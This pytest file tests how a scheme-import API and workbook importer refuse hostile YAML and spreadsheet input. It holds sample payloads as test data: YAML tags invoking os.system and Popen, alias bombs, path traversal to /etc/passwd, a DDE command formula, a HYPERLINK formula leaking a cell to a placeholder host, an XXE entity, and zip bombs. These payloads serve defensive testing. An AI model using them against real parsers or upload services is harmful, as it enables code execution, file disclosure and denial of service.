"""Schemes from outside, as YAML and as workbooks: read as values, within bounds, never as formulas or objects."""

from __future__ import annotations

import json
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from python_calamine import load_workbook

from projections.scheme_files import vocabulary
from projections.workbooks.files import LARGEST_UNPACKED, MOST_PARTS
from projections.workbooks.importing import import_workbook, template
from schemes.problem import InvalidInput
from tests.api.bad_inputs.refusals import sent
from tests.api.county import HERE, YEAR, County
from tests.projections.scheme_workbooks import Formula, changed, refused, skeleton

LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
SCHEMES: dict[str, tuple[str, str]] = {
    "white space": (" \n", "scheme-not-yaml"),
    "a comment": ("# 方案\n", "scheme-not-yaml"),
    "a text": ("方案", "scheme-model-type"),
    "a list": ("- a\n", "scheme-model-type"),
    "two documents": ("a: 1\n---\nb: 2\n", "scheme-not-yaml"),
    "billion laughs": (LAUGHS, "scheme-too-many-values"),
    "an alias of itself": ("a: &a [*a]\n", "scheme-alias-cycle"),
    "an unknown alias": ("a: *b\n", "scheme-not-yaml"),
    "deep lists": ("a: " + "[" * 5_000, "scheme-too-deep"),
    "deep blocks": ("".join(f"{' ' * n}a:\n" for n in range(200)), "scheme-too-deep"),
    "a merge": ("a: &a {b: 1}\nc:\n  <<: *a\n", "scheme-duplicate-field"),
    "a list as a name": ("? [a, b]\n: 1\n", "scheme-field-name"),
    "a control character": ("id: a\x07b\n", "scheme-not-yaml"),
    "a tab as indent": ("a:\n\tb: 1\n", "scheme-not-yaml"),
    "an unknown directive": ("%FOO\n---\n%\n", "scheme-not-yaml"),
    "an undeclared tag": ("!x!y a: 1\n", "scheme-not-yaml"),
    "JSON that never ends": ('{"a": [', "scheme-not-yaml"),
}
TAGS = {
    "a call": '!!python/object/apply:os.system ["touch x"]',
    "an object": "!!python/object:subprocess.Popen {args: id}",
    "a name": "!!python/name:os.system",
    "a module": "!!python/module:os",
    "binary": "!!binary aWQ=",
    "a local tag": "!include /etc/passwd",
}


def codes(county: County, document: str, path: str = "/api/v1/schemes/validate") -> tuple[int, set[str]]:
    answer = (
        sent(county, document.encode(), path, Content_Type="application/yaml")
        if path.endswith("validate")
        else sent(county, json.dumps({"document": document, "reason": "修订"}).encode(), path)
    )
    return answer.status_code, {one["code"] for one in answer.json()["errors"]}


@pytest.mark.parametrize("name", SCHEMES)
def test_a_text_that_is_no_scheme_is_refused_and_opens_no_year(shared: County, name: str) -> None:
    text, code = SCHEMES[name]
    before = shared.size()

    for path in ("/api/v1/schemes/validate", f"{YEAR}/schemes"):
        status, found = codes(shared, text, path)
        assert (status, code in found) == (422, True), (path, found)
    assert shared.size() == before


@pytest.mark.parametrize("name", TAGS)
def test_a_tag_makes_no_object_of_a_value(shared: County, name: str) -> None:
    status, found = codes(shared, f"id: {TAGS[name]}\n")

    assert status == 422
    assert found <= {"scheme-missing", "scheme-string-type", "scheme-string-pattern-mismatch", "scheme-not-yaml"}


NUMBERS = {
    "NaN": ".nan",
    "infinity": ".inf",
    "1e999": "1e999",
    "hexadecimal": "0x64",
    "octal": "0o144",
    "sexagesimal": "1:40",
    "underscores": "1_00",
    "a plus": "+100",
    "long": "9" * 5_000,
    "Arabic digits": "١٠٠",
    "a day": "2021-01-01",
    "a text": '"hundred"',
}


@pytest.mark.parametrize("name", NUMBERS)
def test_what_is_no_plain_number_counts_nothing(shared: County, name: str) -> None:
    text = shared.client.get("/api/v1/schemes/zhangshu-2021/document").text
    assert "\nfull: 100\n" in text
    status, found = codes(shared, text.replace("\nfull: 100\n", f"\nfull: {NUMBERS[name]}\n"))

    assert (status, {one.partition("-")[0] for one in found}) == (422, {"scheme"})


def test_a_field_that_stands_twice_is_refused(shared: County) -> None:
    text = shared.client.get("/api/v1/schemes/zhangshu-2021/document").text

    assert codes(shared, f"{text}\nfull: 100\n") == (422, {"scheme-duplicate-field"})


def test_a_scheme_that_is_larger_than_a_body_is_refused(shared: County) -> None:
    assert codes(shared, "# " + "x" * 2**20) == (413, {"body-too-large"})


SHIPPED = ("../schemes/zhangshu-2021", "zhangshu-2021\0", "zhangshu-2021.yaml", "/etc/passwd", "..", "*", "vocabulary")


@pytest.mark.parametrize("name", SHIPPED)
def test_no_file_is_read_by_the_name_of_a_scheme(shared: County, name: str) -> None:
    before = shared.size()
    refused = sent(shared, json.dumps({"scheme": name}).encode(), f"{HERE}/years")

    assert refused.json()["code"] in ("unknown-scheme", "json-nul", "field-invalid")
    assert shared.size() == before


CELLS = {
    "HYPERLINK": '=HYPERLINK("https://example.com/?"&A1,"点此")',
    "an equals sign": "=1+1",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at": "@SUM(1)",
    "DDE": "=cmd|' /C calc'!A0",
    "an array": "{=1+1}",
    "an address": "https://example.com/",
    "a local file": "external:c:\\x.xlsx",
    "a quote": "'=1+1",
}


@pytest.mark.parametrize("name", CELLS)
def test_a_text_in_a_workbook_is_no_formula(name: str) -> None:
    scheme = skeleton()
    group = scheme.groups[0]
    titled = group.model_copy(update={"title": CELLS[name]})
    written = scheme.model_copy(update={"groups": (titled, *scheme.groups[1:])})
    data = template(vocabulary(), written)

    with ZipFile(BytesIO(data)) as parts:
        sheets = [parts.read(one) for one in parts.namelist() if one.startswith("xl/worksheets/")]
        assert not [one for one in parts.namelist() if "externalLink" in one]
    assert not any(b"<f>" in one or b"<hyperlink" in one or b"<f " in one for one in sheets)
    with load_workbook(BytesIO(data)) as workbook:
        assert any(CELLS[name] in row for row in workbook.get_sheet_by_name("分组").to_python())
    assert import_workbook(data, "s.xlsx", vocabulary()).scheme.groups[0].title == CELLS[name]


FORMULAS = {
    "HYPERLINK": Formula('=HYPERLINK("https://example.com","甲镇")', "甲镇"),
    "WEBSERVICE": Formula('=WEBSERVICE("https://example.com")', "甲镇"),
    "a sum": Formula("=1+1", 2),
    "a text": Formula('="甲镇"', "甲镇"),
}


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_in_a_workbook_is_refused_in_its_cell(name: str) -> None:
    told = [(code, where) for code, where, _ in refused(changed({"单位!B3": FORMULAS[name]}))]

    assert ("workbook-formula", "单位!B3") in told


def with_part(name: str, part: bytes, times: int = 1) -> bytes:
    target = BytesIO(changed({}))
    with ZipFile(target, "a", ZIP_DEFLATED) as packed:
        for number in range(times):
            packed.writestr(f"{name}{number or ''}", part)
    return target.getvalue()


def instead(name: str, old: bytes, new: bytes) -> bytes:
    target = BytesIO()
    with ZipFile(BytesIO(changed({}))) as source, ZipFile(target, "w", ZIP_DEFLATED) as packed:
        for one in source.namelist():
            part = source.read(one)
            packed.writestr(one, part.replace(old, new, 1) if one == name else part)
    return target.getvalue()


def false_size() -> bytes:
    """A part that unpacks to far more than the directory says."""
    data = bytearray(with_part("xl/bomb.xml", bytes(LARGEST_UNPACKED)))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


SHEET = "xl/worksheets/sheet2.xml"
STRINGS = "xl/sharedStrings.xml"
ENTITIES = b'<!DOCTYPE s [<!ENTITY a "xx"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><sst'
WORKBOOKS: dict[str, Callable[[], bytes]] = {
    "a bomb": lambda: with_part("xl/bomb.xml", bytes(LARGEST_UNPACKED)),
    "a bomb behind a false size": false_size,
    "many parts": lambda: with_part("xl/part", b"", MOST_PARTS),
    "entities": lambda: instead(STRINGS, b"<sst", ENTITIES),
    "UTF-16": lambda: instead(STRINGS, b'encoding="UTF-8"', b'encoding="UTF-16"'),
    "UTF-7": lambda: instead(STRINGS, b'encoding="UTF-8"', b'encoding="UTF-7"'),
    "a far row": lambda: instead(SHEET, b'<row r="1"', b'<row r="1048577000"'),
    "a part twice": lambda: with_part(SHEET, b"<x/>"),
    "a sheet outside": lambda: instead("xl/_rels/workbook.xml.rels", b"worksheets/sheet2.xml", b"../../../etc/passwd"),
    "a web page": lambda: b"<!doctype html><script>alert(1)</script>",
    "a web page before it": lambda: b"<script>" + changed({})[:300],
    "CSV": "=1+1,方案\n".encode,
}


@pytest.mark.filterwarnings("ignore:Duplicate name")  # the archive under test is made so
@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_workbook_that_is_out_of_bounds_is_refused(name: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        import_workbook(WORKBOOKS[name](), "s.xlsx", vocabulary())
    [problem] = caught.value.problems
    assert problem.code in ("workbook-too-large", "workbook-damaged", "workbook-type")
